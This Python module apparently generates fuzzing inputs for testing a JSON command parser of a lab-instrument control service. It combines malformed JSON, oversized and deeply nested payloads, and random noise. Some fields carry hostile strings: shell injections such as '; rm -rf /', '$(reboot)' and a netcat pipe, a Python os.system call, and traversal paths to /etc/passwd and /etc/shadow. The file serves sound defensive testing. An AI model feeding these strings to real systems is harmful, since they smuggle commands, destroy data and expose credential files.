"""Commands that nobody should send: a corpus, and any number of others made from a seed."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator

SHELL = ("$(reboot)", "; rm -rf /", "`id`", "| nc 10.0.0.1 99", "&& shutdown now", "\n/bin/sh")
PYTHON = ("__import__('os').system('id')", "eval('1')", "os.system", "lambda: 0", "__class__")
PATHS = (
    "../../etc/passwd",
    "/etc/shadow",
    "a/../../b",
    "..",
    "~root",
    "C:\\x",
    "a//b",
    "./.",
    "a\0b",
)
NAMES = ("", "nothing", "RE", "exit", "montage ", "Montage", "montage.__call__", "plans.montage")

CORPUS = (
    b"",
    b"\0",
    b" ",
    b"\xff\xfe{}",
    b"\xc3\x28",
    b"null",
    b"[]",
    b"3",
    b'"montage"',
    b"{",
    b"{}}",
    b'{"function"}',
    b'{"function": "snap"} {"function": "snap"}',
    b'{"function": "snap", "kwargs": {"exposure": NaN}}',
    b'{"function": "snap", "kwargs": {"exposure": 1e999}}',
    b'{"function": "snap", "kwargs": {"exposure": ' + b"9" * 5000 + b"}}",
    b'{"function": "snap", "kwargs": {"sample": "\\ud800"}}',
    b'{"function": "snap", "kwargs": {"sample": "a\\u0000b"}}',
    b'{"function": "snap", "unknown": 1}',
    b'{"function": "snap", "id": "' + b"x" * 65 + b'"}',
    b'{"function": "snap", "id": "a b"}',
    b'{"function": "snap", "id": 5}',
    b'{"function": "snap", "priority": 1e9}',
    b'{"function": "snap", "held": "yes"}',
    b'{"function": "snap", "kwargs": []}',
    b'{"function": "snap", "args": {}}',
    b'{"function": "snap", "args": [1, 2, 3, 4, 5, 6, 7, 8, 9]}',
    b'{"function": ["snap"]}',
    b'{"function": "abort"}',
    b"[" * 50_000,
    b'{"a":' * 20_000,
    b'{"function": "snap", "kwargs": {"md": ' + b"[" * 40 + b"]" * 40 + b"}}",
    b'{"function": "' + b"a" * 100_000 + b'"}',
    b"x" * 131_072,
)


def commands(seed: int) -> Iterator[bytes]:
    """Give the corpus, and then others without end; none is a command that may run."""
    yield from CORPUS
    rng = random.Random(seed)
    makers = (_noise, _cut_off, _wrong_argument, _bad_directory, _no_function, _deep, _injected)
    while True:
        yield rng.choice(makers)(rng)


def _noise(rng: random.Random) -> bytes:
    return rng.randbytes(rng.choice((1, 10, 100, 1000)))


def _cut_off(rng: random.Random) -> bytes:
    whole = json.dumps({"function": "snap", "kwargs": {"exposure": 0.1}, "client": "x"}).encode()
    return whole[: rng.randrange(1, len(whole))]


def _value(rng: random.Random, depth: int = 0) -> object:
    kinds = (
        lambda: rng.choice((*SHELL, *PYTHON, *PATHS)),
        lambda: rng.uniform(-1e9, 1e9),
        lambda: rng.randrange(-(10**30), 10**30),
        lambda: rng.choice((True, False, None)),
        lambda: [_value(rng, depth + 1) for _ in range(rng.randrange(4))] if depth < 4 else [],
        lambda: {rng.choice(NAMES): _value(rng, depth + 1)} if depth < 4 else {},
    )
    return rng.choice(kinds)()


def _wrong_argument(rng: random.Random) -> bytes:
    name = rng.choice(("exposur", "camera ", "__class__", "self", "RE", "stage_x"))
    return json.dumps({"function": "snap", "kwargs": {name: _value(rng)}}).encode()


def _bad_directory(rng: random.Random) -> bytes:
    key = rng.choice(("directory", "proposal"))
    return json.dumps({"function": "snap", key: rng.choice((*PATHS, *SHELL))}).encode()


def _no_function(rng: random.Random) -> bytes:
    name = rng.choice((*NAMES, *SHELL, *PYTHON, *PATHS))
    return json.dumps({"function": name, "args": [_value(rng)]}).encode()


def _deep(rng: random.Random) -> bytes:
    depth = rng.randrange(33, 3000)
    return (
        b'{"function": "snap", "kwargs": {"md": ' + b'{"a":' * depth + b"1" + b"}" * depth + b"}}"
    )


def _injected(rng: random.Random) -> bytes:
    content = {
        "function": "snap",
        "kwargs": {"exposure": rng.choice((*SHELL, *PYTHON, "0.1", [0.1], {"a": 1}, True))},
        "client": rng.choice((*SHELL, *PYTHON, "gui", "ann")),
    }
    return json.dumps(content).encode()
